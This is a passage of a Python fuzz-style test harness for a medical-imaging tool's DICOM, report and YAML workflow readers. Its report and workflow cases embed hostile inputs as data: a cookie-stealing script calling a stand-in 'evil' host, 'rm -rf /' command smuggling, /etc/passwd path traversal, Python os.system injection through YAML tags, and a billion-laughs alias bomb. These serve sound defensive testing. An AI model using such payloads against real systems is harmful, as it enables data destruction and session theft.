            return [*problems, f"slice {k} is not at a slice of the reference ({ijk[:3]})"]
        if not np.array_equal(vol.array[:, :, k], ref.array[:, :, kk]):
            return [*problems, f"slice {k} differs from reference slice {kk}"]
    if n != ref.array.shape[2] and not (subvolume_ok or warned):
        problems.append(f"{n} of {ref.array.shape[2]} slices and no warning says why")
    return problems


def _positions_oracle(tol: float = 0.01) -> Callable[[Any, Any], list[str]]:
    """For moved slices: every file's pixels are in the slice whose first voxel lies where the
    file's ImagePositionPatient says (within ``tol`` mm: a sheared affine is exact; "warn"
    keeps the mean step, off by up to the deviation)."""

    def check(vol: Any, ref: Any) -> list[str]:
        if vol.array.shape != ref.array.shape:
            return [f"shape {vol.array.shape}, reference {ref.array.shape}"]
        order = [Path(f).name for f in json.loads(Path(ref.source_files[0]).parent.with_suffix(
            ".order").read_text())]  # fmt: skip
        folder = Path(vol.source_files[0]).parent
        inv = np.linalg.inv(vol.affine)
        out = []
        for k_ref, name in enumerate(order):
            ds = pydicom.dcmread(folder / name, stop_before_pixels=True)
            ipp = np.array([float(v) for v in ds.ImagePositionPatient]) * [-1, -1, 1]
            k = round((inv @ [*ipp, 1.0])[2])
            if not 0 <= k < vol.array.shape[2]:
                out.append(f"{name} is outside the volume")
                continue
            got = vol.affine @ np.array([0.0, 0.0, k, 1.0])
            if np.linalg.norm(got[:3] - ipp) > tol:
                out.append(f"{name}: slice {k} starts at {got[:3]}, its header says {ipp}")
            if not np.array_equal(vol.array[:, :, k], ref.array[:, :, k_ref]):
                out.append(f"{name}: slice {k} holds other pixels")
        return out

    return check


def _offset_oracle(offset: float) -> Callable[[Any, Any], list[str]]:
    """Rescale removed: the values are the stored values (reference + offset)."""

    def check(vol: Any, ref: Any) -> list[str]:
        if vol.array.shape != ref.array.shape or not np.array_equal(vol.array, ref.array + offset):
            return ["values are not the stored values"]
        return []

    return check


# -- reports ------------------------------------------------------------------------------------------
def _report_cases(b: _Builder) -> None:
    folder = b.root / "reports"
    folder.mkdir()
    good = (SAMPLES / "chest_ct_0001" / "report.txt").read_text()

    def file(name: str, data: bytes | str, allowed: str = "error", **kw: Any) -> None:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        b.add(f"report_{name}", path, allowed, kind="report", culprit=path, **kw)

    rng = np.random.default_rng(7)
    file("empty.txt", b"")
    file("spaces.txt", b" \n\t \r\n ")
    file("only_controls.txt", b"\x01\x02\x03" * 50)
    file("random.txt", rng.integers(0, 256, 5000, dtype=np.uint8).tobytes())
    file("random_no_nul.txt", bytes(x or 1 for x in rng.integers(128, 256, 5000, dtype=np.uint8)))
    file("png.txt", b"\x89PNG\r\n\x1a\n" + rng.integers(0, 256, 3000, dtype=np.uint8).tobytes())
    file("gzip.txt", b"\x1f\x8b\x08\x00" + bytes(200))
    file("pdf.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n" + bytes(300))
    file("ten_mb.txt", (good + "\n") * (10_000_000 // len(good) + 1), "report", warns="")
    file("ten_mb_one_word.txt", "a" * 10_000_000, "report")
    file("html_js.html", f"<html><body><script>alert('x')</script><p>{good}</p>"
         "<img src=x onerror=alert(1)></body></html>", "report", warns="HTML")  # fmt: skip
    file("bare_script.txt", "<script>fetch('http://evil/'+document.cookie)</script>\n" + good,
         "report")  # fmt: skip
    file("only_script.html", "<html><script>alert(1)</script></html>", "error")
    file("nul_in_middle.txt", good[:200].encode() + b"\x00" + good[200:].encode())
    file("nul_once_late.txt", good.encode() * 30 + b"\x00" + b"tail", "error|report")
    file("controls_sprinkled.txt", good.replace(".", ".\x07"), "report", warns="control")
    file("rtl_arabic.txt", "النتائج: لا يوجد انصباب جنبي.\nالانطباع: طبيعي.\n", "report")
    file("rtl_hebrew_mixed.txt", f"FINDINGS: ממצאים תקינים. {good[:300]}", "report")
    file("rtl_override.txt", f"\u202eFINDINGS\u202c: {good}\u2066x\u2069", "report")
    file("bidi_only.txt", "\u202e\u202d\u202c\u200f\u200e", "error|report")
    file("utf16_bom.txt", "\ufeff".encode("utf-16-le") + good.encode("utf-16-le"), "report")
    file("utf16_no_bom.txt", good.encode("utf-16-le"))
    file("utf8_bom.txt", b"\xef\xbb\xbf" + good.encode(), "report")
    file("latin1.txt", good.replace("a", "\xe4").encode("latin-1"), "report", warns="UTF-8")
    file("bom_then_garbage.txt", b"\xff\xfe\x00\xd8\x00\xd8" + bytes(50), "error|report")
    file("emoji_and_cjk.txt", f"{good}\n所见 😀 \U0001f9ea", "report")
    file("long_line.txt", "no finding " * 200_000, "report")
    file("many_lines.txt", "\n" * 1_000_000 + good, "report")
    file("bad.json", b"{not json", "error")
    file("empty_list.json", b"[]", "error")
    file("number.json", b"42", "error")
    file("null.json", b"null", "error")
    file("deep.json", b"[" * 100_000 + b"]" * 100_000, "error")
    file("deep_obj.json", b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "error")
    file("text_is_number.json", json.dumps({"text": 5}), "error")
    file("text_is_list.json", json.dumps({"text": ["a", "b"]}), "error")
    file("fhir_bad_base64.json", json.dumps({
        "resourceType": "DiagnosticReport",
        "presentedForm": [{"contentType": "text/plain", "data": "!!!not base64!!!"}]}), "error")  # fmt: skip
    file("fhir_form_not_list.json", json.dumps({
        "resourceType": "DiagnosticReport", "presentedForm": "text/plain"}), "error")  # fmt: skip
    file("fhir_form_items_not_objects.json", json.dumps({
        "resourceType": "DiagnosticReport", "presentedForm": [1, "x", None]}), "error")  # fmt: skip
    file("fhir_text_not_object.json", json.dumps({
        "resourceType": "DiagnosticReport", "text": "x", "conclusion": ["a"]}), "error|report")  # fmt: skip
    file("fhir_binary_payload.json", json.dumps({
        "resourceType": "DiagnosticReport",
        "presentedForm": [{"contentType": "text/plain", "data": "AAECAwQFBgcICQ=="}]}),
        "error")  # fmt: skip
    file("json_nul.json", json.dumps({"text": "FINDINGS: \u0000 x"}), "report")
    file("nul.csv", b'text\n"a\x00b"\n', "error|report")
    file("no_header.csv", b"", "error")
    file("huge_field.csv", b'text\n"' + b"x" * 3_000_000 + b'"\n', "report")
    file("unclosed_quote.csv", b'text\n"abc\n', "report|error")
    file("csv_many_rows.csv", b"text\n" + b"a\n" * 1000, "error")
    file("fake_sr.dcm", b"\0" * 128 + b"DICM" + os.urandom(400), "error")
    file("empty.dcm", b"", "error")
    shutil.copyfile(_ordered(b.bases["ct_explicit"])[0], folder / "ct_image.dcm")
    b.add("report_ct_image.dcm", folder / "ct_image.dcm", "error", kind="report",
          culprit=folder / "ct_image.dcm")  # fmt: skip
    sr = _truncated_sr(folder)
    b.add("report_truncated_sr", sr, "error", kind="report", culprit=sr)
    (folder / "a_folder.txt").mkdir()
    b.add("report_is_folder", folder / "a_folder.txt", "error", kind="report")
    b.add("report_missing", folder / "absent.txt", "error", kind="report")
    if os.name == "posix":
        os.mkfifo(folder / "pipe.txt")
        b.add("report_fifo", folder / "pipe.txt", "error", kind="report")
        (folder / "loop.txt").symlink_to(folder / "loop.txt")
        b.add("report_symlink_loop", folder / "loop.txt", "error", kind="report")
    for i, (src, allowed) in enumerate(
        [(b"", "error"), (b"\x00" * 10, "error"), (good.encode(), "report"), ({}, "error"),
         ({"text": None}, "error"), ({"findings": "ok", "impression": ""}, "report"),
         ({"text": "\x00"}, "error"), (12, "error"), (["a"], "error")]
    ):  # fmt: skip
        b.add(f"report_object_{i}", src, allowed, kind="report", root=folder)


def _truncated_sr(folder: Path) -> Path:
    from medfuse.export import ExportOptions  # noqa: F401  (the exporters register)

    ds = pydicom.Dataset()
    ds.SOPClassUID = "1.2.840.10008.5.1.4.1.1.88.33"
    ds.SOPInstanceUID = pydicom.uid.generate_uid()
    ds.Modality = "SR"
    item = pydicom.Dataset()
    item.ValueType = "TEXT"
    item.TextValue = "FINDINGS: no effusion. " * 50
    ds.ContentSequence = [item] * 20
    from pydicom.dataset import FileMetaDataset

    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = ds.SOPClassUID
    meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
    meta.TransferSyntaxUID = pydicom.uid.ExplicitVRLittleEndian
    ds.file_meta = meta
    path = folder / "truncated_sr.dcm"
    ds.save_as(path, enforce_file_format=True)
    path.write_bytes(path.read_bytes()[:1200])
    return path


# -- workflows ------------------------------------------------------------------------------------------
GOOD_WORKFLOW = {"name": "t", "model": "chest_ct_demo"}


def _workflow_cases(b: _Builder) -> None:
    import yaml

    folder = b.root / "workflows"
    folder.mkdir()

    def yml(name: str, text: str | bytes, allowed: str = "error") -> None:
        path = folder / name
        path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
        b.add(f"workflow_{name}", path, allowed, kind="workflow", culprit=path)

    def mapping(name: str, patch: dict[str, Any], allowed: str = "error") -> None:
        data = _merge(GOOD_WORKFLOW, patch)
        path = folder / f"{name}.yaml"
        path.write_text(yaml.safe_dump(data, allow_unicode=True))
        b.add(f"workflow_{name}", path, allowed, kind="workflow", culprit=path)
        b.add(f"workflow_{name}_dict", data, allowed, kind="workflow", root=folder)

    wrong_types = {
        "version": "one", "name": 5, "description": ["x"], "model": 3.5, "input": "CT",
        "input.modalities": "CT", "input.series": 7, "input.on_nonuniform": True,
        "input.max_volume_mib": "big", "reports": [], "reports.filenames": "report.txt",
        "reports.required": "perhaps", "reports.folder": 1, "explain": "all",
        "explain.methods": {"gradcam": 1}, "explain.labels": 3, "explain.params": [1],
        "explain.params.gradcam": "x", "export.formats": "json", "export.include_phi": "maybe",
        "export.saliency_labels": 1, "run.workers": "many", "run.threads": 1.5,
        "run.device": 0,
    }  # fmt: skip
    for key, value in wrong_types.items():
        mapping(f"wrong_type_{key}", _dotted(key, value))
    unknown = ["modle", "input.modality", "reports.file", "explain.method", "export.format",
               "run.gpus", "export.include_phi_x", "__class__", "base_dir_x"]  # fmt: skip
    for key in unknown:
        mapping(f"unknown_key_{key}", _dotted(key, 1))
    hostile = {
        "name_path": {"name": "../../etc/passwd"},
        "name_shell": {"name": "x; rm -rf /"},
        "name_long": {"name": "a" * 10_000},
        "name_nul": {"name": "a\x00b"},
        "device_injection": {"run": {"device": "cuda; rm -rf /"}},
        "method_python": {"explain": {"methods": ["__import__('os').system('x')"]}},
        "method_module": {"explain": {"methods": ["os.system"]}},
        "format_path": {"export": {"formats": ["../../json"]}},
        "format_module": {"export": {"formats": ["medfuse.export.json"]}},
        "report_name_path": {"reports": {"filenames": ["../../../etc/passwd"]}},
        "report_name_abs": {"reports": {"filenames": ["/etc/passwd"]}},
        "report_name_dot": {"reports": {"filenames": [".."]}},
        "report_name_backslash": {"reports": {"filenames": ["..\\..\\x"]}},
        "workers_huge": {"run": {"workers": 10**9}},
        "workers_negative": {"run": {"workers": -1}},
        "threads_zero": {"run": {"threads": 0}},
        "max_volume_zero": {"input": {"max_volume_mib": 0}},
        "max_volume_huge": {"input": {"max_volume_mib": 10**12}},
        "version_two": {"version": 2},
        "modalities_pt": {"input": {"modalities": ["PT"]}},
        "description_huge": {"description": "x" * 100_000},
        "model_empty": {"model": ""},
        "params_object": {"explain": {"params": {"gradcam": {"layer": {"__class__": "x"}}}}},
        "duplicate_formats": {"export": {"formats": ["json", "json"]}},
    }
    for name, patch in hostile.items():
        mapping(f"hostile_{name}", patch)
    for name, patch in {
        "yaml11_booleans": {"export": {"include_phi": "yes"}},
        "unicode_description": {"description": "\u202e évaluation 所见"},
        "model_outside_path": {"model": "../../../../../etc"},
    }.items():  # data the schema accepts (a model path is resolved when the run loads it)
        mapping(f"accepted_{name}", patch, "valid|error")
    yml("empty.yaml", b"")
    yml("null.yaml", b"null\n")
    yml("list.yaml", b"- a\n- b\n")
    yml("scalar.yaml", b"just a string\n")
    yml("python_tag.yaml", b"name: x\nmodel: !!python/object/apply:os.system ['touch pwned']\n")
    yml("python_name.yaml", b"name: !!python/name:os.system\nmodel: x\n")
    yml("binary_tag.yaml", b"name: !!binary aGVsbG8=\nmodel: x\n", "valid|error")
    yml("timestamp.yaml", b"name: x\nmodel: y\nversion: 2024-01-01\n")
    yml("tabs.yaml", b"name: x\n\tmodel: y\n")
    yml("bad_indent.yaml", b"name: x\n  model: y\n: :\n")
    yml("binary.yaml", os.urandom(2048))
    yml("nul.yaml", b"name: x\x00\nmodel: y\n")
    yml("utf16.yaml", "name: x\nmodel: y\n".encode("utf-16"), "valid|error")
    yml("latin1.yaml", "name: x\nmodel: y\ndescription: caf\xe9\n".encode("latin-1"))
    yml("deep.yaml", b"name: x\nmodel: y\ndescription: " + b"[" * 1500 + b"]" * 1500 + b"\n")
    yml("too_big.yaml", b"name: x\nmodel: y\ndescription: '" + b"x" * (1 << 20) + b"'\n")
    bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        prev = chr(ord("a") + i - 1)
        cur = chr(ord("a") + i)
        bomb.append(
            f"{cur}: &{cur} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]"
        )
    yml("billion_laughs.yaml", "\n".join(bomb) + "\nname: x\nmodel: y\n")
    yml("billion_laughs_in_value.yaml", "\n".join(["x_anchor: 1"]) + "\nname: x\nmodel: y\n"
        "explain:\n  params:\n    gradcam: " + "{k: [[[[[[1]]]]]]}" + "\n")  # fmt: skip
    yml("alias_in_known_key.yaml", "\n".join(bomb).replace("a: &a", "explain: {methods: &a")
        .replace("x, x]", "x, x]}", 1) + "\nname: x\nmodel: y\n")  # fmt: skip
    yml("duplicate_keys.yaml", b"name: x\nmodel: y\nmodel: z\n", "valid|error")
    yml("merge_key.yaml", b"base: &b {name: x}\n<<: *b\nmodel: y\n")
    (folder / "a_folder.yaml").mkdir()
    b.add("workflow_is_folder", folder / "a_folder.yaml", "error", kind="workflow")
    b.add("workflow_missing", folder / "absent.yaml", "error", kind="workflow")
    if os.name == "posix":
        os.mkfifo(folder / "pipe.yaml")
        b.add("workflow_fifo", folder / "pipe.yaml", "error", kind="workflow")
        (folder / "loop.yaml").symlink_to(folder / "loop.yaml")
        b.add("workflow_symlink_loop", folder / "loop.yaml", "error", kind="workflow")


def _dotted(key: str, value: Any) -> dict[str, Any]:
    out: dict[str, Any] = {}
    node = out
    parts = key.split(".")
    for p in parts[:-1]:
        node = node.setdefault(p, {})
    node[parts[-1]] = value
    return out


def _merge(a: dict[str, Any], b: dict[str, Any]) -> dict[str, Any]:
    out = dict(a)
    for k, v in b.items():
        out[k] = _merge(out[k], v) if isinstance(v, dict) and isinstance(out.get(k), dict) else v
    return out


# -- the corpus ------------------------------------------------------------------------------------------
KINDS = ("dicom", "report", "workflow")


def build_corpus(
    root: str | os.PathLike, kinds: tuple[str, ...] = KINDS
) -> tuple[list[Case], dict[str, Any]]:
    """Write the cases of ``kinds`` under ``root``; returns (cases, reference volumes by base
    name)."""
    root = Path(root)
    bases = make_bases(root)
    refs = reference_volumes(bases) if "dicom" in kinds else {}
    b = _Builder(root, bases)
    if "dicom" in kinds:
        _dicom_cases(b, refs)
    if "report" in kinds:
        _report_cases(b)
    if "workflow" in kinds:
        _workflow_cases(b)
    return b.cases, refs


def run_case(case: Case) -> Outcome:
    """Run one case through the reader it is for; never raises."""
    from medfuse.errors import MedfuseError

    if case.skip:
        return Outcome("skipped", case.skip)
    study = None
    try:
        if case.kind == "dicom":
            from medfuse.io.study import read_study

            study = read_study(case.source, policy=case.policy)
            value = study.load()
            warned = bool(value.warnings or study.warnings)
            return Outcome("warning" if warned else "volume", "", value, study)
        if case.kind == "report":
            from medfuse.io.reports import read_report

            value = read_report(case.source)
            return Outcome("report", "", value)
        from medfuse.config import load_workflow

        value = load_workflow(case.source)
        return Outcome("valid", "", value)
    except MedfuseError as exc:
        return Outcome("error", type(exc).__name__, exc, study)
    except Exception as exc:
        return Outcome("crash", f"{type(exc).__name__}: {exc}"[:300], exc, study)


def judge(case: Case, outcome: Outcome, refs: dict[str, Any]) -> list[str]:
    """What is wrong with ``outcome`` for ``case`` ([] when it is acceptable).

    A DICOM case may always end in a volume the oracle proves correct (the reader may well
    cope with a broken tag it does not need); ``allowed`` without "volume" then only means that
    a recorded warning must explain it (``warns``) when "warning" is allowed."""
    if outcome.kind == "skipped":
        return []
    if outcome.kind == "crash":
        return [f"not a MedfuseError: {outcome.detail}"]
    if outcome.kind == "error":
        if "error" not in case.allowed:
            return [f"outcome error ({outcome.detail}: {outcome.value}), expected a volume"]
        return _judge_error(case, outcome.value)
    if outcome.kind in ("volume", "warning"):
        vol, study = outcome.value, outcome.study
        warnings = list(vol.warnings) + list(study.warnings)
        problems = []
        if (
            case.warns
            and "volume" not in case.allowed
            and not any(case.warns.lower() in w.lower() for w in warnings)
        ):
            problems.append(f"no warning containing {case.warns!r} (warnings: {warnings})")
        ref = refs[case.base] if case.base else None
        if ref is None:
            return [*problems, "a volume from a case without a reference"]
        if case.oracle is not None:
            return problems + case.oracle(vol, ref)
        why = ("left out", "duplicate", "incompatible")  # warnings that explain fewer slices
        return problems + check_volume(
            vol,
            ref,
            subvolume_ok=case.subvolume,
            warned=any(w in x for x in warnings for w in why),
        )
    if outcome.kind not in case.allowed:
        return [f"outcome {outcome.kind}, expected {'|'.join(sorted(case.allowed))}"]
    if outcome.kind == "report":
        rep = outcome.value
        problems = []
        bad = [c for c in rep.text if ord(c) < 32 and c not in "\n\t"]
        if bad:
            problems.append(f"control characters left in the text: {bad[:5]}")
        if not rep.text.strip():
            problems.append("empty report text")
        if case.warns:
            notes = list(rep.warnings) + list(getattr(rep, "notes", []))
            if not any(case.warns.lower() in n.lower() for n in notes):
                problems.append(f"no warning containing {case.warns!r} ({notes})")
        return problems
    return []


def _judge_error(case: Case, exc: Any) -> list[str]:
    problems = []
    if not exc.reason or not str(exc.reason).strip():
        problems.append("error without a reason")
    if not isinstance(case.source, Path):
        return problems  # bytes / a mapping: no file to name (workflows: the message names keys)
    if not exc.path:
        return [*problems, f"error names no file: {exc}"]
    if case.root is not None:
        p, root = Path(exc.path).absolute(), Path(case.root).absolute()
        if p != root and root not in p.parents and p not in root.parents:
            problems.append(f"error names {exc.path}, outside the case folder {root}")
    if case.culprit is not None and case.culprit.name not in str(exc):
        problems.append(f"error does not name the broken file {case.culprit.name}: {exc}")
    return problems


def tally(results: list[tuple[Case, Outcome, list[str]]]) -> dict[str, Counter[str]]:
    """Outcome counts per kind of case: {"dicom": Counter({"error:DicomError": 120, ...})}."""
    out: dict[str, Counter[str]] = {}
    for case, outcome, _problems in results:
        label = outcome.kind if outcome.kind != "error" else f"error:{outcome.detail}"
        out.setdefault(case.kind, Counter())[label] += 1
    return out


def format_tally(counts: dict[str, Counter[str]]) -> str:
    lines = []
    for kind, counter in counts.items():
        total = sum(counter.values())
        parts = ", ".join(f"{k} {v}" for k, v in sorted(counter.items(), key=lambda kv: -kv[1]))
        lines.append(f"{kind}: {total} cases: {parts}")
    return "\n".join(lines)


def main(argv: list[str]) -> int:  # pragma: no cover - manual use
    import tempfile

    root = Path(argv[0]) if argv else Path(tempfile.mkdtemp(prefix="medfuse-corpus-"))
    cases, refs = build_corpus(root)
    import signal
    import time

    class CaseTimeout(BaseException):
        pass

    def alarm(*_):
        raise CaseTimeout("case took more than 60 s")

    signal.signal(signal.SIGALRM, alarm)
    results = []
    for c in cases:
        t0 = time.perf_counter()
        signal.alarm(60)
        try:
            o = run_case(c)
        except CaseTimeout as exc:
            o = Outcome("crash", f"hang: {exc}")
        finally:
            signal.alarm(0)
        dt = time.perf_counter() - t0
        if dt > 1:
            print(f"slow: {c.name} {dt:.1f} s")
        results.append((c, o, judge(c, o, refs)))
    for case, _outcome, problems in results:
        if problems:
            print(f"VIOLATION {case.name}: {'; '.join(problems)}")
    print(format_tally(tally(results)))
    return 1 if any(p for _c, _o, p in results) else 0


if __name__ == "__main__":  # pragma: no cover
    sys.path.insert(0, str(REPO))
    raise SystemExit(main(sys.argv[1:]))
